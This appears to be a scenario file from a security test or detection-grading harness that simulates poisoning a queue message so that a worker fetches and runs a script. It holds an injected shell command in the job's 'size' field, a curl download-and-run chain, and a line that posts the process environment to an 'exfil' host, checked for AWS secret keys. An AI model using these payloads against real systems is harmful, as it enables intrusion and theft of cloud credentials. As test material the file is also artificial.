/** Message poisoning: a job whose size is a shell command makes the worker behind the queue fetch a program. */
import { Truth } from '../desk/truth.ts';
import type { Outcome, Scenario, World } from '../scenario.ts';

export const sqsPoisoning: Scenario = {
  name: 'sqs-poisoning',
  what: 'a message in a queue makes the function behind it fetch and run a program; the file is found',
  starts: 'file',
  hosts: ['tool', 'exfil'],
  run,
};

async function run(world: World): Promise<Outcome> {
  const { random } = world;
  const tool = world.host('tool');
  const exfil = world.host('exfil');
  const path = `/${random.word(8)}`;
  const out = `/${random.word(8)}`;
  const file = `/tmp/${random.word(7)}.sh`;
  world.serve('tool', path, `curl -s --data-binary @/proc/self/environ ${exfil.url}${out}\n`);
  const agent = world.agent();
  const size = `1x1"; curl -s ${tool.url}${path} -o ${file}; sh ${file}; echo "`;
  const answer = await world.call('POST', '/jobs', { body: { name: random.word(5), size }, agent });
  await world.until(() => world.visits('exfil').some((visit) => visit.path === out));
  if (!world.visits('exfil').some(({ body }) => body.includes('AWS_SECRET_ACCESS_KEY=')))
    throw new Error(`nothing arrived: ${answer.status}`);

  const truth = new Truth()
    .asks('the job', 'intake', answer, agent)
    .call('intake', answer, 'sqs:SendMessage')
    .serves('the worker', 'worker', answer)
    .programs('worker', answer, 'sh -c echo', `curl -s ${tool.url}`)
    .call('worker', answer, `GET https://${tool.host}${path}`)
    .endpoint(tool.host)
    .file('worker', file)
    .file('worker', '/tmp/worker-done.log', 'context');
  return { fact: { what: 'file', q: file }, entries: [answer.requestId], steps: truth.steps };
}
